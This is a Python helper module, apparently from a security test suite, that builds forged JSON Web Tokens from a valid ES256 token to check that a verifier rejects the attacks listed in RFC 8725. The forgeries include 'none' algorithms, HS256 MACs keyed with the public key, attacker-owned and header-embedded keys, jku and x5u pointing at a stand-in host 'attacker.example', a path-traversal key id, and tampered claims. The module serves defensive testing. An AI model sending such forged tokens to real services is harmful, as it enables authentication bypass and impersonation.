"""Access tokens that nobody has issued, made from one that was: what attackers try first (RFC 8725).

What lives here: making them, without the key that signs. What must not: sending them (`testing_attacks.py`).
"""

import base64
import hmac
import json
from collections.abc import Mapping
from typing import Any

from joserfc.jwk import ECKey
from joserfc.jws import JWSRegistry

EVIL = "https://attacker.example/keys"


def forgeries(token: str, published: Mapping[str, Any], evil: str = EVIL) -> dict[str, str]:
    """What was tried → a token, made from a good one (a JWS with ES256) and the keys that its issuer publishes.

    Unsigned, with a MAC whose secret is the public key, signed with a key of the attacker's own under our key id or
    carried along, with another person or a later end under the old signature, and what is no token
    at all. `evil` is where the attacker keeps keys.
    """
    header, claims, signature = token.split(".")
    said, told = _read(header), _read(claims)
    own = ECKey.generate_key("P-256")
    ours = next(
        (each for each in published["keys"] if each.get("kid") == said.get("kid")), published["keys"][0]
    )
    secret = ECKey.import_key(ours).as_pem(private=False)
    nobody, later = (
        told | {"sub": "00000000-0000-7000-8000-000000000001"},
        told | {"exp": told["exp"] + 10**6},
    )
    return {
        "no signature": f"{_write(said | {'alg': 'none'})}.{claims}.",
        "no signature, in odd letters": f"{_write(said | {'alg': 'NonE'})}.{claims}.{signature}",
        "no algorithm": f"{_write({'typ': said.get('typ'), 'kid': said.get('kid')})}.{claims}.{signature}",
        "a MAC with the public key": _mac(said | {"alg": "HS256"}, told, secret),
        "a MAC with nothing": _mac(said | {"alg": "HS256"}, told, b""),
        "a key of the attacker's own": _signed(said, told, own),
        "a key in the header": _signed(said | {"jwk": own.as_dict(private=False)}, told, own),
        "keys at an address (jku)": _signed(said | {"jku": evil}, told, own),
        "a certificate at an address (x5u)": _signed(said | {"x5u": evil}, told, own),
        "a file as key id": _signed(said | {"kid": "../../../dev/null"}, told, own),
        "somebody else under the old signature": f"{header}.{_write(nobody)}.{signature}",
        "a later end under the old signature": f"{header}.{_write(later)}.{signature}",
        "half a token": f"{header}.{claims}",
        "no token": "null",
    }


def _read(segment: str) -> dict[str, Any]:
    found: dict[str, Any] = json.loads(base64.urlsafe_b64decode(segment + "=" * (-len(segment) % 4)))
    return found


def _write(content: object) -> str:
    return _text(json.dumps(content).encode())


def _text(content: bytes) -> str:
    return base64.urlsafe_b64encode(content).rstrip(b"=").decode()


def _mac(header: object, claims: object, secret: bytes) -> str:
    content = f"{_write(header)}.{_write(claims)}"
    return f"{content}.{_text(hmac.digest(secret, content.encode(), 'sha256'))}"


def _signed(header: object, claims: object, key: ECKey) -> str:
    """A correct signature over any header, also one that a library would refuse to write."""
    content = f"{_write(header)}.{_write(claims)}"
    return f"{content}.{_text(JWSRegistry.algorithms['ES256'].sign(content.encode(), key))}"
